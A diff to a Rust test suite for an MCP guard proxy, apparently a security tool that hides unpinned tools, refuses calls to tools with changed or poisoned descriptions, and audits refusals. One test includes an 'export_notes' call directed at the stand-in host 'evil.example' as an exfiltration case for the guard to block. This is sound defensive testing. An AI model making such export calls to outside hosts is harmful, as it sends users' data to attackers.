@@ -47,7 +47,12 @@ struct Session {
     guard: Option<JoinHandle<Result<GuardExit, GuardError>>>,
 }
 
-fn start(server: StdioLaunch, pins: ToolPins, limits: GuardLimits, audit: Option<PathBuf>) -> Session {
+fn start(
+    server: StdioLaunch,
+    pins: ToolPins,
+    limits: GuardLimits,
+    audit: Option<PathBuf>,
+) -> Session {
     let (client_in, input) = std::io::pipe().unwrap();
     let (from_guard, client_out) = std::io::pipe().unwrap();
     let (event_tx, events) = mpsc::channel();
@@ -112,7 +117,9 @@ impl Session {
     }
 
     fn request(&mut self, id: u64, method: &str, params: Value) -> Value {
-        self.send(&json!({"jsonrpc": "2.0", "id": id, "method": method, "params": params}).to_string());
+        self.send(
+            &json!({"jsonrpc": "2.0", "id": id, "method": method, "params": params}).to_string(),
+        );
         self.answer(&json!(id)).0
     }
 
@@ -194,25 +201,53 @@ fn an_unpinned_tool_is_hidden_and_its_call_never_reaches_the_server() {
     );
     s.handshake();
     let list = s.request(1, "tools/list", json!({}));
-    assert_eq!(names(&list, "tools"), ["read_note", "write_note", "search_notes"]);
-    let refused = s.request(2, "tools/call", json!({"name": "export_notes", "arguments": {"url": "https://evil.example"}}));
+    assert_eq!(
+        names(&list, "tools"),
+        ["read_note", "write_note", "search_notes"]
+    );
+    let refused = s.request(
+        2,
+        "tools/call",
+        json!({"name": "export_notes", "arguments": {"url": "https://evil.example"}}),
+    );
     assert_eq!(refusal_reason(&refused), "unpinned");
-    let ok = s.request(3, "tools/call", json!({"name": "read_note", "arguments": {"id": "1"}}));
+    let ok = s.request(
+        3,
+        "tools/call",
+        json!({"name": "read_note", "arguments": {"id": "1"}}),
+    );
     assert!(ok.get("result").is_some(), "{ok}");
     let (exit, events) = s.finish();
     assert_eq!(exit.end, GuardEnd::ClientClosed);
-    assert_eq!(calls_received(&log, "export_notes"), 0, "the refused call reached the server");
+    assert_eq!(
+        calls_received(&log, "export_notes"),
+        0,
+        "the refused call reached the server"
+    );
     assert_eq!(calls_received(&log, "read_note"), 1);
     assert!(events.iter().any(|e| matches!(e, GuardEvent::Hidden { name, reason: HideReason::Unpinned, .. } if name == "export_notes")), "{events:?}");
     assert!(events.iter().any(|e| matches!(e, GuardEvent::Refused { name, reason: RefuseReason::Unpinned, .. } if name == "export_notes")));
     // The audit log: JSON lines, private, naming what was hidden and refused and why.
     let text = std::fs::read_to_string(&audit).unwrap();
-    let lines: Vec<Value> = text.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
-    assert!(lines.iter().any(|l| l["event"] == "hidden" && l["name"] == "export_notes" && l["reason"] == "unpinned" && l["kind"] == "tool"));
-    assert!(lines.iter().any(|l| l["event"] == "refused" && l["name"] == "export_notes" && l["id"] == 2));
+    let lines: Vec<Value> = text
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    assert!(lines.iter().any(|l| l["event"] == "hidden"
+        && l["name"] == "export_notes"
+        && l["reason"] == "unpinned"
+        && l["kind"] == "tool"));
+    assert!(
+        lines
+            .iter()
+            .any(|l| l["event"] == "refused" && l["name"] == "export_notes" && l["id"] == 2)
+    );
     assert!(lines.iter().all(|l| l["time"].is_string()));
     use std::os::unix::fs::PermissionsExt;
-    assert_eq!(std::fs::metadata(&audit).unwrap().permissions().mode() & 0o777, 0o600);
+    assert_eq!(
+        std::fs::metadata(&audit).unwrap().permissions().mode() & 0o777,
+        0o600
+    );
 }
 
 /// Scenario guard-byte-faithful.
@@ -220,7 +255,12 @@ fn an_unpinned_tool_is_hidden_and_its_call_never_reaches_the_server() {
 fn passed_through_messages_are_byte_for_byte() {
     let dir = tempfile::tempdir().unwrap();
     let log = dir.path().join("wire.jsonl");
-    let mut s = start(drift_with_log(&[], &log), drift_pins(), GuardLimits::default(), None);
+    let mut s = start(
+        drift_with_log(&[], &log),
+        drift_pins(),
+        GuardLimits::default(),
+        None,
+    );
     s.handshake();
     let list = s.request(1, "tools/list", json!({}));
     assert_eq!(names(&list, "tools").len(), 3);
@@ -230,18 +270,28 @@ fn passed_through_messages_are_byte_for_byte() {
     let (answer, raw) = s.answer(&json!("call-7"));
     assert!(answer.get("result").is_some(), "{answer}");
     let received = wire(&log, "in");
-    assert!(received.iter().any(|l| l == call), "the server got {received:?}");
+    assert!(
+        received.iter().any(|l| l == call),
+        "the server got {received:?}"
+    );
     let sent = wire(&log, "out");
     let raw = String::from_utf8(raw).unwrap();
     assert!(raw.contains("\\u00e9") && raw.contains("\": "), "{raw}");
-    assert!(sent.iter().any(|l| format!("{l}\n") == raw), "{raw} is not what the server sent");
+    assert!(
+        sent.iter().any(|l| format!("{l}\n") == raw),
+        "{raw} is not what the server sent"
+    );
     // An unfiltered list result passes as sent, too.
     let (_, raw_list) = {
         s.send(r#"{"jsonrpc":"2.0","id":9,"method":"tools/list"}"#);
         s.answer(&json!(9))
     };
     let raw_list = String::from_utf8(raw_list).unwrap();
-    assert!(wire(&log, "out").iter().any(|l| format!("{l}\n") == raw_list));
+    assert!(
+        wire(&log, "out")
+            .iter()
+            .any(|l| format!("{l}\n") == raw_list)
+    );
     s.finish();
 }
 
@@ -250,16 +300,32 @@ fn passed_through_messages_are_byte_for_byte() {
 fn a_call_before_any_list_is_held_until_the_guard_has_checked() {
     let dir = tempfile::tempdir().unwrap();
     let log = dir.path().join("wire.jsonl");
-    let mut s = start(drift_with_log(&[], &log), drift_pins(), GuardLimits::default(), None);
+    let mut s = start(
+        drift_with_log(&[], &log),
+        drift_pins(),
+        GuardLimits::default(),
+        None,
+    );
     s.handshake();
-    let ok = s.request(1, "tools/call", json!({"name": "read_note", "arguments": {"id": "1"}}));
+    let ok = s.request(
+        1,
+        "tools/call",
+        json!({"name": "read_note", "arguments": {"id": "1"}}),
+    );
     assert!(ok.get("result").is_some(), "{ok}");
     let (_, events) = s.finish();
     let received = wire(&log, "in");
-    let own = received.iter().position(|l| l.contains("\"mcpsig-guard/1\"") && l.contains("tools/list"));
+    let own = received
+        .iter()
+        .position(|l| l.contains("\"mcpsig-guard/1\"") && l.contains("tools/list"));
     let call = received.iter().position(|l| l.contains("tools/call"));
     assert!(own.is_some() && own < call, "{received:?}");
-    assert!(events.iter().any(|e| matches!(e, GuardEvent::Rechecking { kind: ItemKind::Tool })));
+    assert!(events.iter().any(|e| matches!(
+        e,
+        GuardEvent::Rechecking {
+            kind: ItemKind::Tool
+        }
+    )));
 }
 
 /// Scenario guard-changed-tool-refused-before-list.
@@ -274,12 +340,24 @@ fn a_changed_tool_is_refused_even_before_the_client_lists() {
         None,
     );
     s.handshake();
-    let refused = s.request(1, "tools/call", json!({"name": "read_note", "arguments": {"id": "1"}}));
+    let refused = s.request(
+        1,
+        "tools/call",
+        json!({"name": "read_note", "arguments": {"id": "1"}}),
+    );
     assert_eq!(refusal_reason(&refused), "changed");
-    let ok = s.request(2, "tools/call", json!({"name": "write_note", "arguments": {"id": "1", "text": "x"}}));
+    let ok = s.request(
+        2,
+        "tools/call",
+        json!({"name": "write_note", "arguments": {"id": "1", "text": "x"}}),
+    );
     assert!(ok.get("result").is_some(), "{ok}");
     // prompts/get likewise.
-    let refused = s.request(3, "prompts/get", json!({"name": "summarise", "arguments": {"query": "q"}}));
+    let refused = s.request(
+        3,
+        "prompts/get",
+        json!({"name": "summarise", "arguments": {"query": "q"}}),
+    );
     assert_eq!(refusal_reason(&refused), "changed");
     let prompts = s.request(4, "prompts/list", json!({}));
     assert!(names(&prompts, "prompts").is_empty(), "{prompts}");
@@ -304,9 +382,16 @@ fn a_list_changed_to_a_poisoned_description_withdraws_the_tool() {
     );
     s.handshake();
     let list = s.request(1, "tools/list", json!({}));
-    assert_eq!(names(&list, "tools"), ["read_note", "write_note", "search_notes"]);
+    assert_eq!(
+        names(&list, "tools"),
+        ["read_note", "write_note", "search_notes"]
+    );
     // The first call passes; the server then poisons read_note and says its list changed.
-    let ok = s.request(2, "tools/call", json!({"name": "read_note", "arguments": {"id": "1"}}));
+    let ok = s.request(
+        2,
+        "tools/call",
+        json!({"name": "read_note", "arguments": {"id": "1"}}),
+    );
     assert!(ok.get("result").is_some(), "{ok}");
     let mut notified = false;
     for _ in 0..100 {
@@ -317,15 +402,32 @@ fn a_list_changed_to_a_poisoned_description_withdraws_the_tool() {
         }
     }
     assert!(notified, "the notification passes through");
-    let refused = s.request(3, "tools/call", json!({"name": "read_note", "arguments": {"id": "1"}}));
+    let refused = s.request(
+        3,
+        "tools/call",
+        json!({"name": "read_note", "arguments": {"id": "1"}}),
+    );
     assert_eq!(refusal_reason(&refused), "changed");
     let list = s.request(4, "tools/list", json!({}));
     assert_eq!(names(&list, "tools"), ["write_note", "search_notes"]);
-    let ok = s.request(5, "tools/call", json!({"name": "search_notes", "arguments": {"query": "x"}}));
+    let ok = s.request(
+        5,
+        "tools/call",
+        json!({"name": "search_notes", "arguments": {"query": "x"}}),
+    );
     assert!(ok.get("result").is_some(), "{ok}");
     let (_, events) = s.finish();
-    assert_eq!(calls_received(&log, "read_note"), 1, "the call after the change reached the server");
-    assert!(events.iter().any(|e| matches!(e, GuardEvent::ListChanged { kind: ItemKind::Tool })));
+    assert_eq!(
+        calls_received(&log, "read_note"),
+        1,
+        "the call after the change reached the server"
+    );
+    assert!(events.iter().any(|e| matches!(
+        e,
+        GuardEvent::ListChanged {
+            kind: ItemKind::Tool
+        }
+    )));
     assert!(events.iter().any(|e| matches!(e, GuardEvent::Hidden { name, reason: HideReason::Changed, .. } if name == "read_note")));
 }
 
@@ -335,19 +437,37 @@ fn the_stateless_era_is_guarded_and_rechecks_carry_the_callers_meta() {
     let dir = tempfile::tempdir().unwrap();
     let log = dir.path().join("wire.jsonl");
     let mut s = start(
-        drift_with_log(&[("DRIFT_STATELESS", "1"), ("DRIFT", "add-tool"), ("DRIFT_PAGE_SIZE", "1")], &log),
+        drift_with_log(
+            &[
+                ("DRIFT_STATELESS", "1"),
+                ("DRIFT", "add-tool"),
+                ("DRIFT_PAGE_SIZE", "1"),
+            ],
+            &log,
+        ),
         drift_pins(),
         GuardLimits::default(),
         None,
     );
     let meta = json!({"io.modelcontextprotocol/protocolVersion": "2026-07-28", "io.modelcontextprotocol/clientCapabilities": {}});
     let discover = s.request(0, "server/discover", json!({"_meta": meta}));
-    assert_eq!(discover["result"]["supportedVersions"][0], "2026-07-28", "{discover}");
+    assert_eq!(
+        discover["result"]["supportedVersions"][0], "2026-07-28",
+        "{discover}"
+    );
     // No initialize: a re-check without the caller's `_meta` would be refused by the server.
     // The guard follows four pages (one tool each) before it decides.
-    let ok = s.request(1, "tools/call", json!({"name": "read_note", "arguments": {"id": "1"}, "_meta": meta}));
+    let ok = s.request(
+        1,
+        "tools/call",
+        json!({"name": "read_note", "arguments": {"id": "1"}, "_meta": meta}),
+    );
     assert!(ok.get("result").is_some(), "{ok}");
-    let refused = s.request(2, "tools/call", json!({"name": "export_notes", "arguments": {}, "_meta": meta}));
+    let refused = s.request(
+        2,
+        "tools/call",
+        json!({"name": "export_notes", "arguments": {}, "_meta": meta}),
+    );
     assert_eq!(refusal_reason(&refused), "unpinned");
     // A client's paginated listing: each page filtered.
     let mut listed = Vec::new();
@@ -366,7 +486,10 @@ fn the_stateless_era_is_guarded_and_rechecks_carry_the_callers_meta() {
     }
     assert_eq!(listed, ["read_note", "write_note", "search_notes"]);
     s.finish();
-    let own: Vec<String> = wire(&log, "in").into_iter().filter(|l| l.contains("mcpsig-guard/")).collect();
+    let own: Vec<String> = wire(&log, "in")
+        .into_iter()
+        .filter(|l| l.contains("mcpsig-guard/"))
+        .collect();
     assert_eq!(own.len(), 4, "{own:?}");
     assert!(own.iter().all(|l| l.contains("2026-07-28")), "{own:?}");
 }
@@ -374,14 +497,31 @@ fn the_stateless_era_is_guarded_and_rechecks_carry_the_callers_meta() {
 /// Scenario guard-instructions-changed.
 #[test]
 fn changed_instructions_are_removed_from_the_handshake() {
-    let mut s = start(stdio(drift(&[("DRIFT", "instructions")])), drift_pins(), GuardLimits::default(), None);
+    let mut s = start(
+        stdio(drift(&[("DRIFT", "instructions")])),
+        drift_pins(),
+        GuardLimits::default(),
+        None,
+    );
     let init = s.request(0, "initialize", json!({"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}));
     assert!(init["result"]["serverInfo"].is_object(), "{init}");
     assert!(init["result"].get("instructions").is_none(), "{init}");
     let (_, events) = s.finish();
-    assert!(events.iter().any(|e| matches!(e, GuardEvent::Hidden { kind: ItemKind::Instructions, reason: HideReason::Changed, .. })));
+    assert!(events.iter().any(|e| matches!(
+        e,
+        GuardEvent::Hidden {
+            kind: ItemKind::Instructions,
+            reason: HideReason::Changed,
+            ..
+        }
+    )));
     // Unchanged instructions pass.
-    let mut s = start(stdio(drift(&[])), drift_pins(), GuardLimits::default(), None);
+    let mut s = start(
+        stdio(drift(&[])),
+        drift_pins(),
+        GuardLimits::default(),
+        None,
+    );
     let init = s.request(0, "initialize", json!({"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}));
     assert!(init["result"]["instructions"].is_string(), "{init}");
     s.finish();
@@ -390,7 +530,12 @@ fn changed_instructions_are_removed_from_the_handshake() {
 /// Scenario guard-server-crash.
 #[test]
 fn a_crashing_server_fails_pending_requests_and_its_status_comes_back() {
-    let mut s = start(stdio(drift(&[("DRIFT_MISBEHAVE", "crash")])), drift_pins(), GuardLimits::default(), None);
+    let mut s = start(
+        stdio(drift(&[("DRIFT_MISBEHAVE", "crash")])),
+        drift_pins(),
+        GuardLimits::default(),
+        None,
+    );
     s.handshake();
     let answer = s.request(1, "tools/list", json!({}));
     assert_eq!(answer["error"]["code"], -32603, "{answer}");
@@ -399,7 +544,11 @@ fn a_crashing_server_fails_pending_requests_and_its_status_comes_back() {
     assert_eq!(exit.status.code(), Some(3));
     assert_eq!(exit.end, GuardEnd::ServerExited);
     let events: Vec<GuardEvent> = s.events.try_iter().collect();
-    assert!(events.iter().any(|e| matches!(e, GuardEvent::ServerExited { .. })));
+    assert!(
+        events
+            .iter()
+            .any(|e| matches!(e, GuardEvent::ServerExited { .. }))
+    );
 }
 
 /// Scenario guard-server-hang.
@@ -411,19 +560,35 @@ fn a_hanging_server_does_not_hang_the_guard() {
         shutdown_grace: Duration::from_millis(500),
         ..GuardLimits::default()
     };
-    let mut s = start(stdio(drift(&[("DRIFT_MISBEHAVE", "hang")])), drift_pins(), limits, None);
+    let mut s = start(
+        stdio(drift(&[("DRIFT_MISBEHAVE", "hang")])),
+        drift_pins(),
+        limits,
+        None,
+    );
     s.handshake();
     // Held for a re-check the server never answers: refused when the re-check times out.
-    let refused = s.request(1, "tools/call", json!({"name": "read_note", "arguments": {"id": "1"}}));
+    let refused = s.request(
+        1,
+        "tools/call",
+        json!({"name": "read_note", "arguments": {"id": "1"}}),
+    );
     assert_eq!(refusal_reason(&refused), "recheck-timed-out");
     // A plain request times out too, with an internal error.
     let timed_out = s.request(2, "ping", json!({}));
-    assert_eq!(timed_out["error"]["data"]["reason"], "timed-out", "{timed_out}");
+    assert_eq!(
+        timed_out["error"]["data"]["reason"], "timed-out",
+        "{timed_out}"
+    );
     // The client leaves; the server, stuck, is stopped with SIGTERM.
     let (exit, events) = s.finish();
     assert_eq!(exit.end, GuardEnd::ClientClosed);
     assert_eq!(exit.status.signal(), Some(15), "{:?}", exit.status);
-    assert!(events.iter().any(|e| matches!(e, GuardEvent::RequestTimedOut { .. })));
+    assert!(
+        events
+            .iter()
+            .any(|e| matches!(e, GuardEvent::RequestTimedOut { .. }))
+    );
 }
 
 /// Scenario guard-server-oversized-line.
@@ -433,12 +598,20 @@ fn a_server_line_over_the_limit_cuts_the_server_off() {
         max_message_bytes: 1024 * 1024,
         ..GuardLimits::default()
     };
-    let mut s = start(stdio(drift(&[("DRIFT_MISBEHAVE", "huge")])), drift_pins(), limits, None);
+    let mut s = start(
+        stdio(drift(&[("DRIFT_MISBEHAVE", "huge")])),
+        drift_pins(),
+        limits,
+        None,
+    );
     s.handshake();
     let answer = s.request(1, "tools/list", json!({}));
     assert_eq!(answer["error"]["data"]["reason"], "server-gone", "{answer}");
     let exit = s.guard.take().unwrap().join().unwrap().unwrap();
-    assert_eq!(exit.end, GuardEnd::ServerCutOff(CutOffProblem::Line(LineProblem::TooLarge)));
+    assert_eq!(
+        exit.end,
+        GuardEnd::ServerCutOff(CutOffProblem::Line(LineProblem::TooLarge))
+    );
 }
 
 /// Scenario guard-server-garbage.
@@ -448,12 +621,21 @@ fn a_server_writing_garbage_is_cut_off() {
         ("garbage", LineProblem::NotJson),
         ("not-object", LineProblem::Batch),
     ] {
-        let mut s = start(stdio(drift(&[("DRIFT_MISBEHAVE", mode)])), drift_pins(), GuardLimits::default(), None);
+        let mut s = start(
+            stdio(drift(&[("DRIFT_MISBEHAVE", mode)])),
+            drift_pins(),
+            GuardLimits::default(),
+            None,
+        );
         s.handshake();
         let answer = s.request(1, "tools/list", json!({}));
         assert_eq!(answer["error"]["code"], -32603, "{mode}: {answer}");
         let exit = s.guard.take().unwrap().join().unwrap().unwrap();
-        assert_eq!(exit.end, GuardEnd::ServerCutOff(CutOffProblem::Line(problem)), "{mode}");
+        assert_eq!(
+            exit.end,
+            GuardEnd::ServerCutOff(CutOffProblem::Line(problem)),
+            "{mode}"
+        );
     }
 }
 
@@ -464,7 +646,12 @@ fn a_flooding_server_is_passed_through_without_buffering() {
         shutdown_grace: Duration::from_millis(200),
         ..GuardLimits::default()
     };
-    let mut s = start(stdio(drift(&[("DRIFT_MISBEHAVE", "ping-flood")])), drift_pins(), limits, None);
+    let mut s = start(
+        stdio(drift(&[("DRIFT_MISBEHAVE", "ping-flood")])),
+        drift_pins(),
+        limits,
+        None,
+    );
     s.handshake();
     s.send(r#"{"jsonrpc":"2.0","id":1,"method":"tools/list"}"#);
     // 100,000 server requests, each passed on in order (the guard holds none of them back).
@@ -489,7 +676,12 @@ fn client_lines_the_guard_cannot_decide_on_are_answered_not_forwarded() {
         max_pending: 2,
         ..GuardLimits::default()
     };
-    let mut s = start(drift_with_log(&[("DRIFT_MISBEHAVE", "hang")], &log), drift_pins(), limits, None);
+    let mut s = start(
+        drift_with_log(&[("DRIFT_MISBEHAVE", "hang")], &log),
+        drift_pins(),
+        limits,
+        None,
+    );
     s.handshake();
     let check = |s: &mut Session, line: &str, code: i64, reason: &str| {
         s.send(line);
@@ -498,20 +690,81 @@ fn client_lines_the_guard_cannot_decide_on_are_answered_not_forwarded() {
         assert_eq!(v["error"]["data"]["reason"], reason, "{line}: {v}");
     };
     check(&mut s, "not json", -32700, "not-json");
-    check(&mut s, r#"[{"jsonrpc":"2.0","id":1,"method":"ping"}]"#, -32600, "batch");
-    check(&mut s, &format!(r#"{{"id":1,"method":"ping","params":{{"x":"{}"}}}}"#, "a".repeat(5000)), -32600, "too-large");
-    check(&mut s, r#"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read_note","name":"export_notes"}}"#, -32600, "not-json-rpc");
-    check(&mut s, r#"{"jsonrpc":"2.0","id":"mcpsig-guard/1","method":"ping"}"#, -32600, "reserved-id");
-    check(&mut s, r#"{"jsonrpc":"2.0","result":{}}"#, -32600, "not-a-message");
+    check(
+        &mut s,
+        r#"[{"jsonrpc":"2.0","id":1,"method":"ping"}]"#,
+        -32600,
+        "batch",
+    );
+    check(
+        &mut s,
+        &format!(
+            r#"{{"id":1,"method":"ping","params":{{"x":"{}"}}}}"#,
+            "a".repeat(5000)
+        ),
+        -32600,
+        "too-large",
+    );
+    check(
+        &mut s,
+        r#"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read_note","name":"export_notes"}}"#,
+        -32600,
+        "not-json-rpc",
+    );
+    check(
+        &mut s,
+        r#"{"jsonrpc":"2.0","id":"mcpsig-guard/1","method":"ping"}"#,
+        -32600,
+        "reserved-id",
+    );
+    check(
+        &mut s,
+        r#"{"jsonrpc":"2.0","result":{}}"#,
+        -32600,
+        "not-a-message",
+    );
+    check(
+        &mut s,
+        r#"{"jsonrpc":"2.0","method":"tools/call","params":{"name":"export_notes"}}"#,
+        -32600,
+        "call-without-id",
+    );
+    check(
+        &mut s,
+        r#"{"jsonrpc":"2.0","id":null,"method":"tools/call","params":{"name":"export_notes"}}"#,
+        -32600,
+        "call-without-id",
+    );
     // The server hangs on tools/list: requests pile up to the bound.
     s.send(r#"{"jsonrpc":"2.0","id":5,"method":"tools/list"}"#);
-    check(&mut s, r#"{"jsonrpc":"2.0","id":5,"method":"ping"}"#, -32600, "duplicate-id");
+    check(
+        &mut s,
+        r#"{"jsonrpc":"2.0","id":5,"method":"ping"}"#,
+        -32600,
+        "duplicate-id",
+    );
     s.send(r#"{"jsonrpc":"2.0","id":6,"method":"ping"}"#);
-    check(&mut s, r#"{"jsonrpc":"2.0","id":7,"method":"ping"}"#, -32603, "too-many-pending");
+    check(
+        &mut s,
+        r#"{"jsonrpc":"2.0","id":7,"method":"ping"}"#,
+        -32603,
+        "too-many-pending",
+    );
     let (_, events) = s.finish();
-    assert!(events.iter().any(|e| matches!(e, GuardEvent::ClientRefused { problem: ClientProblem::Line(LineProblem::Batch), .. })));
+    assert!(events.iter().any(|e| matches!(
+        e,
+        GuardEvent::ClientRefused {
+            problem: ClientProblem::Line(LineProblem::Batch),
+            ..
+        }
+    )));
     let received = wire(&log, "in");
-    assert!(!received.iter().any(|l| l.contains("export_notes") || l.contains("not json") || l.contains("\"id\":7")), "{received:?}");
+    assert!(
+        !received.iter().any(|l| l.contains("export_notes")
+            || l.contains("not json")
+            || l.contains("\"id\":7")),
+        "{received:?}"
+    );
 }
 
 /// Scenario guard-everything-server.
@@ -523,18 +776,44 @@ fn server_everything_through_the_guard() {
     pins.tools.retain(|p| p.name != "get-env");
     let sum = pins.tools.iter_mut().find(|p| p.name == "get-sum").unwrap();
     let mut def = sum.definition.clone();
-    def.insert("description".into(), json!("Adds two numbers (the reviewed text)"));
+    def.insert(
+        "description".into(),
+        json!("Adds two numbers (the reviewed text)"),
+    );
     *sum = Pinned::new(def).unwrap();
     let mut s = start(stdio(launch), pins, GuardLimits::default(), None);
     s.handshake();
     let list = s.request(1, "tools/list", json!({}));
     let listed = names(&list, "tools");
     assert!(listed.contains(&"echo".to_owned()), "{listed:?}");
-    assert!(!listed.contains(&"get-env".to_owned()) && !listed.contains(&"get-sum".to_owned()), "{listed:?}");
-    let echo = s.request(2, "tools/call", json!({"name": "echo", "arguments": {"message": "hi"}}));
-    assert!(echo["result"]["content"][0]["text"].as_str().unwrap().contains("hi"), "{echo}");
-    assert_eq!(refusal_reason(&s.request(3, "tools/call", json!({"name": "get-env", "arguments": {}}))), "unpinned");
-    assert_eq!(refusal_reason(&s.request(4, "tools/call", json!({"name": "get-sum", "arguments": {"a": 1, "b": 2}}))), "changed");
+    assert!(
+        !listed.contains(&"get-env".to_owned()) && !listed.contains(&"get-sum".to_owned()),
+        "{listed:?}"
+    );
+    let echo = s.request(
+        2,
+        "tools/call",
+        json!({"name": "echo", "arguments": {"message": "hi"}}),
+    );
+    assert!(
+        echo["result"]["content"][0]["text"]
+            .as_str()
+            .unwrap()
+            .contains("hi"),
+        "{echo}"
+    );
+    assert_eq!(
+        refusal_reason(&s.request(3, "tools/call", json!({"name": "get-env", "arguments": {}}))),
+        "unpinned"
+    );
+    assert_eq!(
+        refusal_reason(&s.request(
+            4,
+            "tools/call",
+            json!({"name": "get-sum", "arguments": {"a": 1, "b": 2}})
+        )),
+        "changed"
+    );
     let prompts = s.request(5, "prompts/list", json!({}));
     assert!(!names(&prompts, "prompts").is_empty(), "{prompts}");
     let (exit, _) = s.finish();
@@ -549,7 +828,9 @@ fn an_audit_log_that_cannot_be_opened_stops_the_launch() {
     let audit = dir.path().join("audit.jsonl");
     std::os::unix::fs::symlink(dir.path().join("elsewhere"), &audit).unwrap();
     let mut server = stdio(drift(&[]));
-    server.env.push(("DRIFT_ENV_DUMP".into(), marker.display().to_string()));
+    server
+        .env
+        .push(("DRIFT_ENV_DUMP".into(), marker.display().to_string()));
     let request = GuardRequest {
         server,
         pins: drift_pins(),
@@ -585,10 +866,24 @@ fn every_guard_scenario_is_run_here() {
     for e in std::fs::read_dir(repo().join("testdata/scenarios")).unwrap() {
         let name = e.unwrap().file_name().to_string_lossy().into_owned();
         if name.starts_with("guard-") {
-            assert!(SCENARIOS.contains(&name.as_str()), "testdata/scenarios/{name} is run by no test");
-            assert!(repo().join("testdata/scenarios").join(&name).join("expected").exists(), "{name}: no expected file");
+            assert!(
+                SCENARIOS.contains(&name.as_str()),
+                "testdata/scenarios/{name} is run by no test"
+            );
+            assert!(
+                repo()
+                    .join("testdata/scenarios")
+                    .join(&name)
+                    .join("expected")
+                    .exists(),
+                "{name}: no expected file"
+            );
             seen.push(name);
         }
     }
-    assert_eq!(seen.len(), SCENARIOS.len(), "missing scenario directories: {seen:?}");
+    assert_eq!(
+        seen.len(),
+        SCENARIOS.len(),
+        "missing scenario directories: {seen:?}"
+    );
 }
